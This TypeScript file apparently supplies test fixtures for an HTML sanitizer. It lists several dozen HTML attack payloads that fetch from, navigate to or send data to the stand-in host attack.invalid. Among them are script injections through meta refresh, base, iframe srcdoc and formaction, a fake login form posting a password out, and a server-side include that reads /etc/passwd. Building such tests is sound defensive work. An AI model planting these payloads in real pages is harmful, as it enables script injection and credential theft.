import type { Attack } from './attack.ts'

/** HTML that requests another site, navigates to it, or sends data to it. */
export const REQUESTS: readonly Attack[] = [
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://attack.invalid/">' },
  { name: 'meta refresh to script', html: '<meta http-equiv="refresh" content="0;url=javascript:pwned()">' },
  {
    name: 'meta refresh to data',
    html: '<meta http-equiv="refresh" content="0;url=data:text/html,<script>pwned()</script>">',
  },
  {
    name: 'meta refresh with two addresses',
    html: '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=https://;URL=javascript:pwned();">',
  },
  { name: 'meta cookie', html: '<meta http-equiv="Set-Cookie" content="session=x">' },
  { name: 'meta policy', html: '<meta http-equiv="Content-Security-Policy" content="script-src *">' },
  { name: 'meta referrer', html: '<meta name=referrer content=unsafe-url>' },
  { name: 'base', html: '<base href="https://attack.invalid/"><a href="x">x</a>' },
  { name: 'base of script', html: '<base href="javascript:pwned();//"><a href="#">x</a>' },
  { name: 'base with a target', html: '<base target="_top"><a href="https://good.example/">x</a>' },
  {
    name: 'link that is fetched before',
    html: '<link rel=prefetch href=https://attack.invalid/1><link rel=preconnect href=https://attack.invalid/2>',
  },
  {
    name: 'link that is loaded before',
    html: '<link rel=modulepreload href=https://attack.invalid/x.js><link rel=preload as=script href=https://attack.invalid/x.js>',
  },
  { name: 'link of an import', html: '<link rel=import href=https://attack.invalid/x.html>' },
  {
    name: 'link of a manifest',
    html: '<link rel=manifest href=https://attack.invalid/m><link rel=icon href=https://attack.invalid/i>',
  },
  { name: 'image', html: '<img src="https://attack.invalid/pixel.gif">' },
  { name: 'image with a set', html: '<img srcset="https://attack.invalid/1x 1x, https://attack.invalid/2x 2x">' },
  { name: 'image with a set of script', html: '<img srcset=",,,,,javascript:pwned() 1x" onerror=pwned()>' },
  {
    name: 'picture',
    html: '<picture><source srcset="https://attack.invalid/s"><img src=https://attack.invalid/i></picture>',
  },
  {
    name: 'video with a picture',
    html: '<video poster="https://attack.invalid/p" src="https://attack.invalid/v"></video>',
  },
  { name: 'audio with a source', html: '<audio autoplay><source src="https://attack.invalid/a"></audio>' },
  { name: 'track', html: '<video><track src="https://attack.invalid/t" default></video>' },
  { name: 'sound of old', html: '<bgsound src="https://attack.invalid/b">' },
  { name: 'iframe', html: '<iframe src="https://attack.invalid/"></iframe>' },
  { name: 'iframe with its document', html: '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>' },
  {
    name: 'iframe with its document in references',
    html: '<iframe srcdoc="&lt;script&gt;parent.pwned()&lt;/script&gt;"></iframe>',
  },
  {
    name: 'iframe with a sandbox and its document',
    html: '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<img src=x onerror=parent.pwned()>"></iframe>',
  },
  { name: 'iframe without an end', html: '<iframe src=https://attack.invalid/ <' },
  {
    name: 'portal and fenced frame',
    html: '<portal src="https://attack.invalid/"></portal><fencedframe src="https://attack.invalid/"></fencedframe>',
  },
  {
    name: 'object',
    html: '<object data="https://attack.invalid/x.swf"><param name=movie value="https://attack.invalid/x.swf"></object>',
  },
  {
    name: 'object by class',
    html: '<object classid="clsid:ae24fdae" codebase="https://attack.invalid/x.cab"></object>',
  },
  { name: 'embed', html: '<embed src="https://attack.invalid/x.svg" type="image/svg+xml" allowscriptaccess=always>' },
  { name: 'applet', html: '<applet code=x archive="https://attack.invalid/x.jar"></applet>' },
  {
    name: 'form',
    html: '<form action="https://attack.invalid/"><input name=password type=password><button>Log in</button></form>',
  },
  { name: 'form of script', html: '<form action="javascript:pwned()"><input type=submit></form>' },
  { name: 'button with its own target', html: '<form><button formaction="javascript:pwned()">x</button></form>' },
  {
    name: 'picture button with its own target',
    html: '<form id=f></form><input type=image src=https://attack.invalid/i form=f formaction="javascript:pwned()">',
  },
  {
    name: 'button for a form of the page',
    html: '<button form="login" formaction="https://attack.invalid/">x</button>',
  },
  {
    name: 'search index of old',
    html: '<isindex type=image src=1 onerror=pwned() action="javascript:pwned()" formaction="javascript:pwned()">',
  },
  { name: 'link with a ping', html: '<a href="https://good.example/" ping="https://attack.invalid/">x</a>' },
  {
    name: 'link with a target and an opener',
    html: '<a href="https://good.example/" target="_blank" rel="opener">x</a>',
  },
  { name: 'link into a named frame', html: '<a href="https://good.example/" target="main" name="x">x</a>' },
  {
    name: 'link with a download',
    html: '<a href="https://good.example/x" download="x.exe" type="text/html" referrerpolicy="unsafe-url">x</a>',
  },
  { name: 'link that reports', html: '<a href="https://good.example/" attributionsrc="https://attack.invalid/">x</a>' },
  {
    name: 'link with a relation of its own',
    html: '<a rel="follow" href="https://good.example/" hreflang=xx accesskey=s>x</a>',
  },
  {
    name: 'quote with an address',
    html: '<blockquote cite="https://attack.invalid/"><q cite="https://attack.invalid/">x</q></blockquote>',
  },
  {
    name: 'HTML with a manifest',
    html: '<html manifest="https://attack.invalid/m"><head profile="https://attack.invalid/p">x',
  },
  {
    name: 'XML island',
    html: '<xml src="https://attack.invalid/x" id=i><i><b>&lt;img src=x onerror=pwned()&gt;</b></i></xml><span datasrc=#i datafld=b dataformatas=html></span>',
  },
  { name: 'server side include', html: '<!--#exec cmd="/bin/cat /etc/passwd"--><!--#include file="/etc/passwd"-->' },
]
